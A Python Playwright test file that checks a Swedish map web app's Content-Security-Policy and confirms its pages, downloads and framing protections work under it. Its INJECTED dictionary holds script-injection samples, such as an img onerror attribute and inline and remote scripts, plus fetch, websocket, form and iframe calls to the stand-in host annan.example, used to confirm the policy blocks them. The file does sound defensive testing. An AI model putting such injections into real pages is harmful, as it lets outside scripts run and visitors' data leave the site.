"""Every page under its policy in a browser: nothing is reported, and everything works."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Frame, expect

from tests.browser.conftest import MOST_WAIT, serving
from tests.browser.test_api import fetched
from tests.browser.visit import SHOWN, Visit

CHART = "svg.marks"
FRAME = "/component/streamlit_folium.st_folium/index.html"  # of the map
# Each page, and what is to be seen on it before it counts as drawn.
PAGES = {
    "/karta": ".pk-count",
    "/karta?projekt=mobevi": ".st-key-projektkort",
    "/projekt?projekt=mobevi": ".pk-maps img",
    "/analys?fraga=tema": ".pk-matrix",
    "/analys?fraga=tid": CHART,
    "/analys?fraga=pengar&data=exempel": CHART,
    "/analys?fraga=tackning": ".st-key-karta iframe",
    "/analys?fraga=avstand&tema=stad": ".st-key-karta iframe",
    "/analys?fraga=kommun&kommun=2480": ".pk-near",
    "/analys?fraga=jamfor&jamfor=mobevi&jamfor=jamtlandsstraket": ".pk-compare",
    "/analys?fraga=egna": ".pk-own",
    "/presentation": "#pk-content",
    "/presentation?bild=1": SHOWN,
    "/data?visa=luckor": "#pk-content",
    "/data?visa=tabell": ".pk-all",
    "/data?visa=hamta": "#pk-content",
    "/data?visa=begrepp": "#pk-content",
    "/data?visa=kallor": "#pk-content",
    "/data?visa=andra": "#pk-content",
    "/om": "#pk-content",
    "/tillganglighet": "#pk-content",
}
COLLECT = """addEventListener("securitypolicyviolation", (one) =>
    violated([location.pathname, one.effectiveDirective, one.blockedURI].join(" ")), true)"""

UNTIL_STOPPED = """() => new Promise((done) => {
    addEventListener("securitypolicyviolation", () => done(), { once: true, capture: true });
    %s;
    setTimeout(done, %d);
})"""


class Guarded(Visit):
    """A visit whose browser reports what the policies forbade, in the page and in its frames."""

    def __post_init__(self) -> None:
        super().__post_init__()
        self.violations: list[str] = []
        self.page.expose_function("violated", lambda one: self.violations.append(one))
        self.page.add_init_script(COLLECT)

    def stopped(self, frame: Frame, script: str) -> list[str]:
        """Run a script in a frame and give what is reported; a form is stopped only some time later."""
        self.violations.clear()
        frame.evaluate(UNTIL_STOPPED % (script, MOST_WAIT))
        return list(self.violations)

    def clean(self) -> None:
        """Nothing was forbidden, nothing failed, and no other host was asked."""
        self.page.evaluate("0")  # what was reported before has arrived then
        assert self.violations == []
        assert self.trouble == []
        assert self.outside() == []


@pytest.fixture(scope="module")
def window(browser: Browser) -> Iterator:
    context = browser.new_context(locale="sv-SE", viewport={"width": 1366, "height": 768})
    context.set_default_timeout(MOST_WAIT)
    context.set_default_navigation_timeout(4 * MOST_WAIT)  # the first is a cold server's
    yield context
    context.close()


@pytest.fixture
def guarded(window, server: str) -> Iterator[Guarded]:
    page = window.new_page()
    yield Guarded(server, window, page)
    page.close()


@pytest.mark.parametrize(("path", "drawn"), PAGES.items(), ids=PAGES)
def test_a_page_keeps_to_its_policy(guarded: Guarded, path: str, drawn: str) -> None:
    guarded.page.goto(guarded.address + path)
    guarded.page.locator(drawn).first.wait_for()
    guarded.settled()
    if guarded.page.locator(".st-key-karta").count():
        guarded.frame.locator("html[data-map=ready]").wait_for()
    guarded.clean()


@pytest.mark.parametrize("path", ["/finns-inte", "/karta.svg?tema=strak"])
def test_what_is_no_page_is_shown_and_keeps_to_its_policy(guarded: Guarded, path: str) -> None:
    guarded.page.goto(guarded.address + path)
    assert guarded.violations == []
    assert [one for one in guarded.trouble if "404" not in one] == []
    if path == "/finns-inte":
        expect(guarded.page.get_by_role("heading")).to_have_css("font-size", "35.2px")  # its style is there
    else:
        fill = guarded.page.locator("path").first.evaluate("one => getComputedStyle(one).fill")
        assert fill.startswith("rgb(")


def test_the_page_of_faults_keeps_to_its_policy(window, spoilt_copy) -> None:
    with serving(spoilt_copy(lambda data: (data / "projects.csv").write_text("id\n"))) as address:
        visit = Guarded(address, window, window.new_page())
        visit.page.goto(address + "/karta")
        visit.page.get_by_role("heading", name="Registret kan inte visas").wait_for()
        visit.settled()
        visit.clean()
        visit.page.close()
        for path in ("/karta.svg", "/api/pilotkartan.csv", "/ready"):
            answer = fetched(address, path)
            assert answer.status == 503
            assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'; ")


def test_everything_works_under_the_policies(guarded: Guarded) -> None:
    visit = guarded.open("/karta")
    visit.marker("mobevi").press("Enter")
    visit.until_chosen("mobevi")
    visit.page.goto(f"{visit.address}/presentation?bild=1")
    visit.page.locator(f"{SHOWN}[data-slide='1']").wait_for()
    visit.page.keyboard.press("ArrowRight")
    visit.page.locator(f"{SHOWN}[data-slide='2']").wait_for()
    visit.show("/data?visa=hamta&tema=stad")
    for name in ("Urvalet: CSV", "Urvalet: GeoJSON"):
        with visit.page.expect_download():
            visit.page.get_by_role("link", name=name, exact=True).click()
    visit.show("/analys?fraga=egna")
    content = "Kommun;Andel\r\nArjeplog;1,5\r\nMalung-Sälen;2,5".encode()
    file = {"name": "egna.csv", "mimeType": "text/csv", "buffer": content}
    visit.page.locator("input[type=file]").set_input_files(file)
    visit.frame.locator("#map_div[data-shaded='Andel']").wait_for()
    buttons = visit.page.locator(".st-key-figur_egna").get_by_role("button")
    assert buttons.count() >= 2
    for button in buttons.all():
        with visit.page.expect_download():
            button.click()
    visit.clean()


# Each would let another's script in, or a visitor's choices out.
INJECTED = {
    "an inline script": (
        "document.head.append(Object.assign(document.createElement('script'), {text: 'window.got = 1'}))",
        "script-src-elem inline",
    ),
    "an attribute": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.got = 1\">')",
        "script-src-attr inline",
    ),
    "text made into code": (
        "setTimeout('window.got = 1')",  # the test's own commands may do what the page may not
        "script-src eval",
    ),
    "another host's script": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://annan.example/a.js'}))",
        "script-src-elem https://annan.example/a.js",
    ),
    "a picture of another host": (
        "new Image().src = 'https://annan.example/a.png'",
        "img-src https://annan.example/a.png",
    ),
    "something asked of another host": (
        "fetch('https://annan.example/a').catch(() => 0)",
        "connect-src https://annan.example/a",
    ),
    "a websocket to another host": (
        "try { new WebSocket('wss://annan.example/a') } catch {}",
        "connect-src wss://annan.example/a",
    ),
    "a frame of another host": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://annan.example/'}))",
        "frame-src https://annan.example",
    ),
    "a form to another host": (
        "document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://annan.example/\"></form>');"
        " document.getElementById('f').submit()",
        "form-action https://annan.example/",
    ),
    "another base": (
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://annan.example/'}))",
        "base-uri https://annan.example",
    ),
}
IN_THE_FRAME = ("a picture of another host", "something asked of another host", "another host's script")


def test_what_is_slipped_in_is_stopped_and_reported(guarded: Guarded) -> None:
    visit = guarded.open("/karta")
    visit.clean()
    for name, (script, expected) in INJECTED.items():
        found = [one.partition(" ")[2] for one in visit.stopped(visit.page.main_frame, script)]
        assert any(one.startswith(expected) for one in found), (name, found)
    assert visit.page.evaluate("window.got") is None
    map_frame = next(one for one in visit.page.frames if "/component/" in one.url)
    for name in IN_THE_FRAME:
        assert any(one.startswith("/component/") for one in visit.stopped(map_frame, INJECTED[name][0])), name


def test_no_site_may_frame_a_page(guarded: Guarded) -> None:
    """Not even our own: a press would go to what is not seen."""
    address = f"{guarded.address}/ram"
    body = f"<iframe src='{guarded.address}/karta'></iframe><iframe src='{guarded.address}{FRAME}'></iframe>"
    guarded.page.route(address, lambda route: route.fulfill(body=body, content_type="text/html"))
    guarded.page.goto(address)
    shown = [one for one in guarded.page.frames[1:] if one.locator("#root").count()]
    assert [one.url for one in shown] == [guarded.address + FRAME]
    assert [one for one in guarded.trouble if "frame-ancestors" in one] != [], guarded.trouble
